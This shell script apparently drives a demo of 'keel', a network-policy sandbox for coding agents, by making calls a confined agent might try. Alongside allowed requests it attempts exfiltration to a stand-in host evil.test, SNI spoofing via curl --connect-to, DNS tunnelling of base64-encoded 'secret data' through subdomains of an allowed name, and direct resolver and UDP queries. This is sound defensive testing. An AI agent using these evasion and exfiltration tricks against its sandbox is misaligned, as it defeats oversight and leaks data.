#!/bin/sh
# A stand-in "agent" for the demo: it makes the kinds of calls a coding agent makes,
# some allowed by examples/fake-world.yaml and some not. It knows nothing about keel:
# no proxy settings, just the tools as they are.
CA="${KEEL_DEMO_CA:?}"
step() { printf '\n\033[1m> %s\033[0m\n' "$*"; }

step "HTTPS to an allowed API (curl)"
curl -sS --max-time 5 --cacert "$CA" https://api.allowed.test/v1/models; echo

step "Plain HTTP to an allowed host (python3 urllib)"
python3 -c 'import urllib.request; print(urllib.request.urlopen("http://plain.test/", timeout=5).read()[:120].decode())'

step "A name the policy does not list (DNS answers NXDOMAIN locally, never asks upstream)"
curl -sS --max-time 5 --cacert "$CA" https://other.test/ || true

step "The exfiltration target, denied by a deny policy"
curl -sS --max-time 5 http://evil.test/ || true

step "A raw IP address chosen by the agent (only CIDR rules apply: none here)"
curl -sS --max-time 5 http://203.0.113.10/ | grep -E '^  (to|reason):'

step "Lying about the name: connect to an allowed name, send SNI for another (curl --connect-to)"
curl -sS --max-time 5 --cacert "$CA" --connect-to other.test:443:api.allowed.test:443 https://other.test/ || true

step "DNS tunnelling through subdomains of an allowed name"
for chunk in c2VjcmV0 ZGF0YQ bGVha2Vk; do getent hosts "$chunk.api.allowed.test" || echo "  $chunk.api.allowed.test: not resolved"; done

step "Asking a public resolver directly (keel answers instead: NXDOMAIN with the reason)"
dig +tries=1 +time=2 @9.9.9.9 other.test | grep -E 'status:|EDE'

step "UDP and QUIC (rejected at once by the sandbox firewall)"
python3 - <<'PY'
import socket, time
for dest in [("192.0.2.53", 9999), ("198.51.100.7", 443)]:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    t = time.monotonic()
    try:
        s.sendto(b"hello", dest); s.settimeout(2); s.recv(100)
        print(f"  udp {dest[0]}:{dest[1]}: got an answer")
    except OSError as e:
        print(f"  udp {dest[0]}:{dest[1]}: {e.strerror or e} after {1000 * (time.monotonic() - t):.0f} ms")
PY
